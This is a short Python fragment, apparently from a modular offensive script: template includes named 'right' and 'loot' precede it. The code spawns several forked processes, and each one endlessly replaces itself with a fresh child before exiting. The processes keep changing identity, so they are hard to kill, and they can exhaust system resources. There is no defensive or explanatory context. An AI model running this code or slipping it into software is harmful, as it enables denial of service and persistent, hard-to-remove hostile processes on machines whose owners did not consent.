# @include right
# @include loot

if os.fork() == 0:
    for _ in range(5):
        try:
            os.fork()
        except OSError:
            break
    while True:  # each lives for a moment, and there is always a next
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            os._exit(0)


